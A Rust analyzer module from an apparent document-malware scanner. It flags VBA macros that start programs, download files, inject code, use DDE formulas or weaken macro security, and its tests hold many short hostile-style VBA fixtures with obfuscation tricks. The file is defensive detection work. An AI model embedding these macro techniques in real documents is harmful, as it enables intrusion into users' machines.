//! What a module is able to do to the computer: calls that start programs, fetch or write files, inject code, change
//! macros or security settings. Judged on what the arguments come to, never on words in comments, strings or names.

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;

use super::{Analyzer, Findings, Found, Look, Sees, command_lines, dde};
use crate::formats::encoded::{self, Meaning};
use crate::formats::vba::{Argument, Call, Declared, Event, Module, Receiver, Text, Value, fold};
use crate::formats::{command_line, remote_reference};
use crate::knowledge::{Api, CallRule, Knowledge, VbaKnowledge, Weight, When};
use crate::model::Kind;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "vba_calls",
    kinds: &[Kind::VbaSource, Kind::VbaPcode],
    sees: Sees::Content,
    findings: &[
        "vba-suspicious-call",
        "powershell-command",
        "lolbin-command",
        "renamed-system-binary",
    ],
    run,
};

/// Most objects that are followed from where they were made to where they are used.
const OBJECTS: usize = 256;

/// Texts of a module that are looked at as commands, and how long they may be.
const TEXTS: usize = 512;
const LONGEST: usize = 64 << 10;

/// Reports `vba-suspicious-call`.
fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let module = Module::read(&look.artifact.data);
    let vba = &look.knowledge.vba;
    let mut judge = Judge {
        module: &module,
        vba,
        knowledge: look.knowledge,
        takes_addresses: (0..module.tokens().len()).any(|at| module.word(at) == "addressof"),
        findings,
        apis: BTreeMap::new(),
        made: BTreeMap::new(),
        used: BTreeSet::new(),
        last: None,
        texts: Vec::new(),
    };
    fold(&module, &|text| vba.mark(text), &mut |event| {
        judge.see(&event);
    });
    judge.unused();
    // What a module that calls something puts together may be a command.
    if judge.last.is_some() {
        let texts = std::mem::take(&mut judge.texts);
        command_lines::judge(look, findings, &texts);
    }
}

struct Judge<'j, 'f> {
    module: &'j Module<'j>,
    vba: &'j VbaKnowledge,
    knowledge: &'j Knowledge,
    /// Whether it has a procedure called back from Windows.
    takes_addresses: bool,
    findings: &'j mut Findings<'f>,
    /// Functions of Windows by the name that the module gives them.
    apis: BTreeMap<String, &'j Api>,
    /// Objects by what they were made from, and where.
    made: BTreeMap<String, Range<usize>>,
    used: BTreeSet<String>,
    /// The statement reported last: one statement is one finding.
    last: Option<Range<usize>>,
    /// Texts that were put together or given to calls, with their offsets.
    texts: Vec<(usize, String)>,
}

impl<'j> Judge<'j, '_> {
    fn see(&mut self, event: &Event<'_>) {
        match event {
            Event::Call(call) => self.call(call),
            Event::Declare(declared) => self.declare(declared),
            Event::Assign {
                name,
                value,
                statement,
            } => self.assigned(name, value, statement),
            Event::Text { text, statement } => self.keep(statement.start, text.as_str()),
            Event::Exhausted => {}
        }
    }

    fn assigned(&mut self, name: &str, value: &Value, statement: &Range<usize>) {
        let number = value.as_whole();
        let text = value.as_text().map(Text::as_str).unwrap_or_default();
        let lower = text.to_lowercase();
        let met = self.vba.assignments(name).any(|rule| {
            number.is_some_and(|number| rule.numbers.contains(&number))
                || rule.containing.iter().any(|one| lower.contains(one))
        });
        if met || self.starts_program(text) {
            let shown = self.source(statement).contains(&text.replace('"', "\"\""));
            self.reveal(statement, (!shown).then(|| text.to_owned()));
        }
    }

    /// Whether a text is a formula that starts a program by a remote reference.
    fn starts_program(&self, text: &str) -> bool {
        let formula = text.trim_start().starts_with(['=', '+', '-', '@']) && text.contains('|');
        formula
            && remote_reference::find(text).iter().any(|one| {
                let command = format!("{} {} {}", one.service, one.topic, one.item);
                dde::starts_program(&command, self.knowledge)
            })
    }

    fn keep(&mut self, at: usize, text: &str) {
        if self.texts.len() < TEXTS && text.contains(' ') && text.len() < LONGEST {
            self.texts.push((at, text.to_owned()));
        }
    }

    fn call(&mut self, call: &Call<'_>) {
        self.follow(call);
        if call.name == "callbyname" && call.receiver == Receiver::Nothing {
            return self.call_by_name(call);
        }
        let suspicious = self.vba.calls(call.name).any(|rule| self.meets(rule, call));
        if suspicious || self.is_api(call) || is_hidden_run(call) || self.is_unknown_run(call) {
            self.report(&call.statement, Some(call.arguments));
            for line in command_lines::lines_of(call) {
                self.keep(call.at, &line);
            }
        }
    }

    /// `CallByName object, "member", type, arguments…` is the member's call.
    fn call_by_name(&mut self, call: &Call<'_>) {
        let [object, member, _, arguments @ ..] = call.arguments else {
            return;
        };
        let Some(name) = member
            .value
            .as_text()
            .map(|text| text.as_str().to_lowercase())
        else {
            // Neither the object nor what is asked of it shall be read.
            let hidden = matches!(&object.value, Value::Object(trail)
                if is_hidden_origin(trail.split('>').next().unwrap_or_default()));
            if hidden && !arguments.is_empty() {
                self.report(&call.statement, Some(call.arguments));
            }
            return;
        };
        let receiver = match &object.value {
            Value::Object(trail) => {
                let origin = trail.split('>').next().unwrap_or_default();
                self.used.insert(origin.to_owned());
                Receiver::Object(trail)
            }
            _ => Receiver::Named(""),
        };
        let real = Call {
            receiver,
            name: &name,
            arguments,
            statement: call.statement.clone(),
            at: call.at,
        };
        if self.vba.calls(&name).any(|rule| self.meets(rule, &real)) {
            self.report(&call.statement, Some(call.arguments));
        }
    }

    /// Remembers where objects are made and whether anything is asked of them.
    fn follow(&mut self, call: &Call<'_>) {
        if let Receiver::Object(trail) = call.receiver {
            let origin = trail.split('>').next().unwrap_or_default();
            if self.made.contains_key(origin) {
                self.used.insert(origin.to_owned());
            }
        } else if matches!(call.name, "createobject" | "getobject") && self.made.len() < OBJECTS {
            let origin = call.arguments.iter().find_map(|one| one.value.as_text());
            if let Some(origin) = origin.map(|text| text.as_str().trim().to_lowercase())
                && self.vba.is_dangerous_object(&origin)
            {
                self.made
                    .entry(origin)
                    .or_insert_with(|| call.statement.clone());
            }
        }
    }

    /// An object that nothing is asked of here is used in another module.
    fn unused(&mut self) {
        for (origin, statement) in std::mem::take(&mut self.made) {
            if !self.used.contains(&origin) {
                let source = self.source(&statement);
                let found = Found::new("vba-suspicious-call", &source).at(statement.start);
                let shown = source.to_lowercase().contains(&origin);
                self.findings
                    .report(if shown { found } else { found.decoded(&origin) });
            }
        }
    }

    fn meets(&self, rule: &CallRule, call: &Call<'_>) -> bool {
        let any = rule.on.iter().any(|on| on == "*");
        let on = match call.receiver {
            Receiver::Module => false,
            Receiver::Nothing => rule.on.is_empty() || any,
            Receiver::Named(_) => any,
            Receiver::Object(trail) => {
                let among = |list: &[String]| list.iter().any(|one| trail.contains(one.as_str()));
                any || among(&rule.on) && !among(&rule.except_on)
            }
        };
        on && self.is_met(rule.when, &rule.containing, call)
    }

    fn is_met(&self, when: When, containing: &[String], call: &Call<'_>) -> bool {
        let texts = || call.arguments.iter().filter_map(|one| one.value.as_text());
        let contains = |text: &str| {
            let lower = text.to_lowercase();
            containing.iter().any(|one| lower.contains(one.as_str()))
        };
        match when {
            When::Always => {
                !call.arguments.is_empty() || !matches!(call.receiver, Receiver::Nothing)
            }
            When::Executable => texts().any(|text| self.names_executable(text.as_str())),
            When::RemoteExecutable => texts()
                .any(|text| text.as_str().contains("://") && self.names_executable(text.as_str())),
            When::Containing => texts().any(|text| contains(text.as_str())),
            When::RemoteContaining => {
                texts().any(|text| text.as_str().contains("://") && contains(text.as_str()))
            }
            When::Hidden => {
                let unknown = call.arguments.first();
                unknown.is_some_and(|one| matches!(one.value, Value::Unknown))
                    && contains(&self.source(&call.statement))
            }
            When::Formula => texts().any(|text| self.starts_program(text.as_str())),
            When::NotOpened => {
                !call.arguments.is_empty() && !self.only_opens(call.arguments, call.name == "shell")
            }
        }
    }

    /// Whether a text ends in the name of a file that runs, arguments of an address apart.
    fn names_executable(&self, text: &str) -> bool {
        let text = text.trim().trim_end_matches('"').to_lowercase();
        let path = text.split(['?', '#']).next().unwrap_or_default();
        // A host is no file, whatever its last label is.
        let host_only = path
            .split_once("://")
            .is_some_and(|(_, rest)| !rest.contains('/'));
        if host_only {
            return false;
        }
        let file = path.rsplit(['/', '\\']).next().unwrap_or_default();
        file.rsplit_once('.').is_some_and(|(stem, extension)| {
            !stem.is_empty()
                && self
                    .vba
                    .commands
                    .executable_extensions
                    .iter()
                    .any(|one| one == extension)
        })
    }

    /// Whether all that the arguments say is to show a folder, a document or a web page.
    fn only_opens(&self, arguments: &[Argument], viewer_needed: bool) -> bool {
        let verbs = ["open", "print", "edit", "explore", "find", ""];
        let texts = arguments
            .iter()
            .filter_map(|one| one.value.as_text())
            .map(Text::as_str);
        let mut telling = texts
            .filter(|text| !verbs.contains(&text.to_lowercase().as_str()))
            .peekable();
        telling.peek().is_some() && telling.all(|text| self.is_opened(text, viewer_needed))
    }

    fn is_opened(&self, text: &str, viewer_needed: bool) -> bool {
        let mut text = text.trim().to_lowercase();
        for folder in &self.vba.commands.folders {
            text = text.replace(&format!("{{{folder}}}"), r"c:\folder");
        }
        if text.contains(['{', '%', '|', '&', ';', '`']) {
            return false;
        }
        let unquoted = |text: &str| {
            let inner = text
                .strip_prefix('"')
                .and_then(|inner| inner.strip_suffix('"'));
            inner
                .filter(|inner| !inner.contains('"'))
                .map(str::to_owned)
        };
        let (program, shown) = text.split_once(' ').unwrap_or((&text, ""));
        let program_file = program
            .trim_matches('"')
            .rsplit('\\')
            .next()
            .unwrap_or_default();
        if self
            .vba
            .commands
            .viewers
            .iter()
            .any(|viewer| viewer == program_file)
        {
            let shown = shown.trim();
            let shown = ["/select,", "/e,", "/n,", "/root,"]
                .iter()
                .fold(shown, |rest, option| {
                    rest.trim().strip_prefix(option).unwrap_or(rest)
                });
            let shown = unquoted(shown.trim()).unwrap_or_else(|| shown.trim().to_owned());
            return !shown.contains("://")
                && !shown.contains("shell:")
                && !self.names_executable(&shown);
        }
        let commands = &self.vba.commands;
        if commands.editors.iter().any(|editor| editor == program_file) {
            let shown = shown.trim().trim_matches('"');
            return shown.rsplit_once('.').is_some_and(|(stem, extension)| {
                let document = commands.document_extensions.iter();
                !stem.contains("://") && document.into_iter().any(|one| one == extension)
            });
        }
        if viewer_needed || self.names_executable(&text) {
            return false;
        }
        let target = unquoted(&text).unwrap_or_else(|| text.clone());
        let one_word = target != text || !target.contains([' ', '"']);
        let web = ["http://", "https://", "mailto:"]
            .iter()
            .any(|scheme| target.starts_with(scheme));
        let local = target.get(1..3) == Some(r":\") || target.starts_with(r"\\");
        let file = target.rsplit('\\').next().unwrap_or_default();
        let document = file.rsplit_once('.').is_some_and(|(_, extension)| {
            self.vba
                .commands
                .document_extensions
                .iter()
                .any(|one| one == extension)
        });
        one_word && (web || local && (document || target.ends_with('\\')))
    }

    /// Whether the call is one of a function of Windows that matters where it is called.
    fn is_api(&self, call: &Call<'_>) -> bool {
        if !matches!(call.receiver, Receiver::Nothing | Receiver::Module)
            || call.arguments.is_empty()
        {
            return false;
        }
        match self.apis.get(call.name) {
            Some(api) if api.weight == Weight::Declared => true,
            Some(api) if api.weight == Weight::Callback => !self.takes_addresses,
            Some(api) if api.weight == Weight::Called => {
                self.is_met(api.when, &api.containing, call)
            }
            _ => false,
        }
    }

    /// `CreateObject(x).Run command` with an `x` that the source does not tell: an object made under a hidden name
    /// that runs something is a shell. A macro of another application is run by its bare name.
    fn is_unknown_run(&self, call: &Call<'_>) -> bool {
        // A process of WMI: command, folder, settings, and the number that it gets.
        if call.name == "create" && call.arguments.len() >= 4 {
            let source = self.source(&call.statement).to_lowercase();
            return source.replace(' ', "").contains(",null,null,");
        }
        let Receiver::Object(trail) = call.receiver else {
            return false;
        };
        let origin = trail.split('>').next().unwrap_or_default();
        let Some(first) = call.arguments.first() else {
            return false;
        };
        let macro_name = first.value.as_text().is_some_and(|text| {
            let text = text.as_str();
            let program = command_line::program(text);
            let program = self.knowledge.links.tools.contains(&program);
            !text.contains([' ', '\\', '/', '{']) && !program && !self.names_executable(text)
        });
        is_hidden_origin(origin)
            && !macro_name
            && matches!(call.name, "run" | "exec" | "shellexecute")
    }

    fn declare(&mut self, declared: &Declared<'_>) {
        let Some(api) = self.vba.api(declared.function) else {
            return;
        };
        self.apis.insert(declared.name.to_owned(), api);
        let library = declared.library.to_lowercase();
        let telling = api.declared_in.iter().any(|one| library.contains(one));
        if api.weight == Weight::Declared || telling {
            self.report(&declared.statement, None);
        }
    }

    fn source(&self, statement: &Range<usize>) -> String {
        let bytes = self
            .module
            .data()
            .get(statement.clone())
            .unwrap_or_default();
        self.module.decode(bytes).into_owned()
    }

    fn report(&mut self, statement: &Range<usize>, arguments: Option<&[Argument]>) {
        let source = self.source(statement);
        let decoded = arguments.and_then(|arguments| revealed(arguments, &source));
        self.reveal(statement, decoded);
    }

    fn reveal(&mut self, statement: &Range<usize>, decoded: Option<String>) {
        if self.last.as_ref() == Some(statement) {
            return;
        }
        self.last = Some(statement.clone());
        let source = self.source(statement);
        let found = Found::new("vba-suspicious-call", &source).at(statement.start);
        self.findings.report(match decoded {
            Some(decoded) => found.decoded(&decoded),
            None => found,
        });
    }
}

/// Whether an object was made under a name that the source does not tell. A part of it may be known: that of an
/// application shows what kind of object it is.
pub(super) fn is_hidden_origin(origin: &str) -> bool {
    let hidden = origin == "?" || origin.contains('{') && !origin.contains(':');
    let office = ["app", "xl", "excel", "word", "access"]
        .iter()
        .any(|one| origin.contains(one));
    hidden && !office
}

/// `x.Run command, 0` on an object from elsewhere: the second argument is a window style, which no macro takes.
fn is_hidden_run(call: &Call<'_>) -> bool {
    let Receiver::Named(root) = call.receiver else {
        return false;
    };
    let [command, style, rest @ ..] = call.arguments else {
        return false;
    };
    let office = ["app", "xl", "excel", "word", "access"]
        .iter()
        .any(|one| root.contains(one));
    let styled = style
        .value
        .as_whole()
        .is_some_and(|style| (0..=10).contains(&style))
        && rest.len() <= 1;
    let macro_name = command
        .value
        .as_text()
        .is_some_and(|text| !text.as_str().contains([' ', '\\', '/', '{']));
    call.name == "run" && styled && !office && !macro_name
}

/// What the arguments come to, where the source does not show it.
fn revealed(arguments: &[Argument], source: &str) -> Option<String> {
    let texts: Vec<&str> = arguments
        .iter()
        .filter_map(|one| one.value.as_text())
        .map(Text::as_str)
        .filter(|text| !text.is_empty())
        .collect();
    let hidden = texts
        .iter()
        .any(|text| !source.contains(&text.replace('"', "\"\"")));
    let shown = texts.join(", ");
    let inner = texts.iter().find_map(|text| encoded::within(text));
    match inner {
        Some(Meaning::Text(inner)) => Some(format!("{shown} → {inner}")),
        Some(Meaning::Program(len)) => Some(format!("{shown} → program of {len} bytes")),
        None => hidden.then_some(shown),
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests as testing;
    use super::*;

    fn found(source: &str) -> Vec<(String, Option<String>)> {
        let (findings, _) =
            testing::run(run, &[testing::holding(Kind::VbaSource, source.as_bytes())]);
        let own = findings
            .into_iter()
            .filter(|finding| finding.id == "vba-suspicious-call");
        own.map(|finding| (finding.evidence.text, finding.evidence.decoded))
            .collect()
    }

    fn decoded(source: &str) -> Option<String> {
        let all = found(source);
        assert_eq!(all.len(), 1, "{all:?}");
        all.into_iter().next().and_then(|one| one.1)
    }

    #[test]
    fn starting_a_program_is_found_with_what_is_started() {
        assert_eq!(
            found("Sub a()\r\n x = \"cmd /c echo \" & \"test\"\r\n Shell x, vbHide\r\nEnd Sub"),
            [(
                "Shell x, vbHide".to_owned(),
                Some("cmd /c echo test".to_owned())
            )]
        );
        assert_eq!(
            decoded("Sub a()\r\nSet o = CreateObject(\"WScr\" & \"ipt.Shell\")\r\nx = StrReverse(\"ohce c/ dmc\")\r\no.Run x\r\nEnd Sub").as_deref(),
            Some("cmd /c echo")
        );
        for source in [
            "Sub a()\r\nVBA.Interaction.Shell c\r\nEnd Sub",
            "Sub a()\r\nIf True Then Call Shell(c, 1) Else b\r\nEnd Sub",
            "Sub a()\r\nDim w As New WshShell\r\nw.Exec c\r\nEnd Sub",
            "Sub a()\r\nWith CreateObject(\"WScript.Shell\")\r\n.Run c\r\nEnd With\r\nEnd Sub",
            "Sub a()\r\nGetObject(\"winmgmts:\").Get(\"Win32_Process\").Create c\r\nEnd Sub",
            "Sub a()\r\nSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\nr = w.Create(c, Null, Null, p)\r\nEnd Sub",
            "Sub a()\r\nCallByName CreateObject(\"WScript.Shell\"), \"Ru\" & \"n\", VbMethod, c\r\nEnd Sub",
            "Sub a()\r\nCreateObject(\"Shell.Application\").ShellExecute \"calc.invalid\"\r\nEnd Sub",
            "Public o\r\nSub a()\r\nSet o = CreateObject(\"WScript.Shell\")\r\nEnd Sub",
            "Sub a()\r\nhelper.Run cmdline, 0, True\r\nEnd Sub",
            "Sub a()\r\nCreateObject(Range(\"A1\").Value).Run x\r\nEnd Sub",
            "Sub a()\r\nSet s = CreateObject(f(1))\r\ns.Exec y\r\nEnd Sub",
            "Sub a()\r\nCreateObject(\"Shell.Application\").Open \"C:\\a\\b.exe\"\r\nEnd Sub",
            "Sub a()\r\nSet s = CreateObject(\"MSScriptControl.ScriptControl\")\r\ns.ExecuteStatement \"CreateObject(\"\"x\"\")\"\r\nEnd Sub",
            "Sub a()\r\nie.Navigate \"http://example.com/a.exe\"\r\nEnd Sub",
        ] {
            assert_eq!(found(source).len(), 1, "{source}");
        }
    }

    #[test]
    fn fetching_writing_injecting_and_changing_settings_are_found() {
        for source in [
            "Private Declare PtrSafe Function d Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As LongPtr) As Long",
            "Private Declare Function VirtualAlloc Lib \"kernel32\" (ByVal a As Long) As Long",
            "Sub a()\r\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\")\r\nh.Open \"GET\", u, False\r\nh.send\r\nEnd Sub",
            "Sub a()\r\nOpen Environ(\"TEMP\") & \"\\a.vbs\" For Output As #1\r\nEnd Sub",
            "Sub a()\r\nActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString s\r\nEnd Sub",
            "Sub a()\r\nApplication.AutomationSecurity = msoAutomationSecurityLow\r\nEnd Sub",
            "Sub a()\r\nExecuteExcel4Macro \"EX\" & \"EC(\"\"x\"\")\"\r\nEnd Sub",
            "Sub a()\r\nGetObject \"script:http://example.invalid/a\"\r\nEnd Sub",
            "Declare Function e Lib \"user32\" Alias \"EnumWindows\" (ByVal p As Long, ByVal l As Long) As Long\r\nSub a()\r\ne m, 0\r\nEnd Sub",
            "Sub a()\r\nRange(\"A1\").Formula = \"=cmd|'/c x'!A0\"\r\nEnd Sub",
            "Sub a()\r\nRange(\"A1\") = \"=c\" & \"md|'/c x'!A0\"\r\nEnd Sub",
            "Sub a()\r\nEvaluate \"=cmd|'/c x'!A0\"\r\nEnd Sub",
            "Sub a()\r\ns.Range(\"A1\").Formula = \"=EXEC(\"\"x\"\")\"\r\nEnd Sub",
            "Sub a()\r\nActiveDocument.AttachedTemplate = \"https://example.invalid/a\"\r\nEnd Sub",
            "Sub a()\r\nExecuteExcel4Macro Sheets(1).Range(\"A1\").Value\r\nEnd Sub",
            "Function f(n)\r\nSet f = CreateObject(n)\r\nEnd Function\r\nSub a()\r\nf(\"WScript.Shell\").Run c\r\nEnd Sub",
            "Private Declare Function w Lib \"msvcrt.dll\" Alias \"system\" (ByVal c As String) As Long",
            "Sub a()\r\nl.TargetPath = \"powershell.exe\"\r\nEnd Sub",
            "Sub a()\r\ns = \"XXXXipt.Shell\"\r\nMid(s, 1, 4) = \"WScr\"\r\nCreateObject(s).Run c\r\nEnd Sub",
            "Sub a()\r\n10 x = 1\r\n20 Shell c\r\nEnd Sub",
            "Sub a()\r\nGetObject(x).Create c, Null, Null, p\r\nEnd Sub",
            "Sub a()\r\nGetObject(\"winmgmts:\").Get(x).Create c\r\nEnd Sub",
            "Sub a()\r\nSystem.PrivateProfileString(\"\", \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\", \"AccessVBOM\") = 1\r\nEnd Sub",
        ] {
            assert_eq!(found(source).len(), 1, "{source}");
        }
        assert_eq!(
            decoded("Sub a()\r\nOpen Environ(\"TEMP\") & \"\\a.vbs\" For Output As #1\r\nEnd Sub")
                .as_deref(),
            Some("%TEMP%\\a.vbs")
        );
    }

    #[test]
    fn the_words_in_comments_texts_and_names_are_not_calls() {
        for source in [
            "Sub a()\r\nie.Navigate \"https://www.example.com\"\r\nie.Navigate \"https://example.com?a\"\r\nEnd Sub",
            "Sub a()\r\ns.AddCode \"function parse(t){return eval('('+t+')')}\"\r\nEnd Sub",
            "' Shell \"cmd.exe\"\r\nSub a()\r\nRem CreateObject(\"WScript.Shell\").Run x\r\nEnd Sub",
            "Sub a()\r\nMsgBox \"Shell \"\"cmd.exe /c\"\" is not used\"\r\nEnd Sub",
            "Sub Shell(x)\r\nEnd Sub\r\nSub a()\r\nShell \"cmd\"\r\nEnd Sub",
            "Sub a()\r\nDim shell\r\nshell = 1\r\nRunShell = shell + 2\r\nEnd Sub",
            "Private Sub Button1_Click()\r\nCall Update\r\nApplication.Run \"Recalc\", 1\r\nActiveWorkbook.SaveAs p\r\nWindows(1).Activate\r\nEnd Sub",
        ] {
            assert_eq!(found(source), [], "{source}");
        }
    }

    #[test]
    fn ordinary_business_macros_call_nothing_suspicious() {
        for source in [
            "Sub a()\r\nSet f = CreateObject(\"Scripting.FileSystemObject\")\r\nf.CreateTextFile(\"C:\\log.txt\").Write s\r\nKill t\r\nMkDir d\r\nFileCopy x, y\r\nSendKeys \"{TAB}\"\r\nEnd Sub",
            "Sub a()\r\nd = CreateObject(\"WScript.Shell\").SpecialFolders(\"Desktop\") & \"\\out.csv\"\r\nOpen d For Output As #1\r\nPrint #1, Chr(34) & v & Chr(34)\r\nClose #1\r\nEnd Sub",
            "Sub a()\r\nShell \"explorer.exe \" & ThisWorkbook.Path, vbNormalFocus\r\nEnd Sub",
            "Private Declare Function ShellExecute Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal h As Long) As Long\r\nSub a()\r\nShellExecute 0, \"open\", \"https://intranet.example/\", \"\", \"\", 1\r\nEnd Sub",
            "Private Declare Sub CopyMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any, b As Any, ByVal c As Long)\r\nPrivate Declare Sub Sleep Lib \"kernel32\" (ByVal ms As Long)",
            "Declare Function EnumWindows Lib \"user32\" (ByVal p As Long, ByVal l As Long) As Long\r\nSub a()\r\nEnumWindows AddressOf Seen, 0\r\nEnd Sub",
            "Sub a()\r\nRange(\"A1\").Formula = \"=RSS|'9984.T'!Price\"\r\nRange(\"A2\") = \"=Excel|'[b.xls]Sheet1'!R1C1\"\r\nv = Evaluate(\"A1|B1\")\r\nActiveDocument.AttachedTemplate = \"\\\\srv\\t\\a.dotm\"\r\nEnd Sub",
            "Function f(n)\r\nSet f = CreateObject(n)\r\nEnd Function\r\nSub a()\r\nf(\"Scripting.Dictionary\").Add \"a\", 1\r\nv = ExecuteExcel4Macro(arg)\r\nEnd Sub",
            "Private Declare PtrSafe Function w Lib \"libc.dylib\" Alias \"system\" (ByVal c As String) As Long\r\nSub a()\r\nl.TargetPath = ThisWorkbook.FullName\r\nEnd Sub",
            "Sub a()\r\nSet x = CreateObject(\"Excel.Application\")\r\nx.Run \"Book1.xls!Macro1\", 1\r\nSet st = CreateObject(\"ADODB.Stream\")\r\nst.SaveToFile \"C:\\data\\out.csv\", 2\r\nEnd Sub",
            "Sub a()\r\nSet x = CreateObject(f(2))\r\nx.Run \"Update\"\r\nx.Open p\r\nEnd Sub",
            "Sub a()\r\nv = ExecuteExcel4Macro(\"'\" & p & \"[\" & f & \"]Sheet1'!R1C1\")\r\nEnd Sub",
            "Sub a()\r\nApplication.AutomationSecurity = msoAutomationSecurityForceDisable\r\nWorkbooks.Open p\r\nEnd Sub",
            "Sub a()\r\nSet w = GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_Process\")\r\nFor Each p In w\r\np.Terminate\r\nNext\r\nEnd Sub",
        ] {
            assert_eq!(found(source), [], "{source}");
        }
    }

    #[test]
    fn opening_a_folder_is_told_from_starting_what_lies_in_it() {
        let call = |argument: &str| found(&format!("Sub a()\r\nShell {argument}\r\nEnd Sub")).len();
        assert_eq!(call("\"explorer.exe C:\\\" & \"data\""), 0);
        assert_eq!(
            call("\"C:\\Windows\\explorer.exe /select,\" & ThisWorkbook.Path & \"\\list.xlsx\""),
            0
        );
        assert_eq!(
            call("\"explorer.exe \" & ThisWorkbook.Path & \"\\a.exe\""),
            1
        );
        assert_eq!(call("\"explorer.exe \" & somewhere"), 1);
        assert_eq!(call("\"explorer.exe http://example.invalid/\""), 1);
        assert_eq!(call("\"cmd /c type a.txt\""), 1);
    }

    #[test]
    fn japanese_macros_in_code_page_932_are_read() {
        let source = "Private Sub 集計ボタン_Click()\r\n Dim 売上表 As Worksheet ' 表示ソ Shell\r\n Set 売上表 = Worksheets(\"売上表\")\r\n 売上表.Range(\"A1\").Value = \"合計：\" & Format(合計, \"#,##0円\")\r\n MsgBox \"処理が完了しました。能\"\r\nEnd Sub\r\n";
        let (bytes, _, _) = encoding_rs::SHIFT_JIS.encode(source);
        let module = testing::holding(Kind::VbaSource, &bytes);
        assert!(testing::run(run, &[module]).0.is_empty());
        let source = "Sub 実行()\r\n 命令 = \"cmd /c echo \" & \"完了\"\r\n Shell 命令\r\nEnd Sub";
        let (bytes, _, _) = encoding_rs::SHIFT_JIS.encode(source);
        let (found, _) = testing::run(run, &[testing::holding(Kind::VbaSource, &bytes)]);
        let evidence = &found.first().unwrap().evidence;
        assert_eq!(evidence.text, "Shell 命令");
        assert_eq!(evidence.decoded.as_deref(), Some("cmd /c echo 完了"));
    }
}
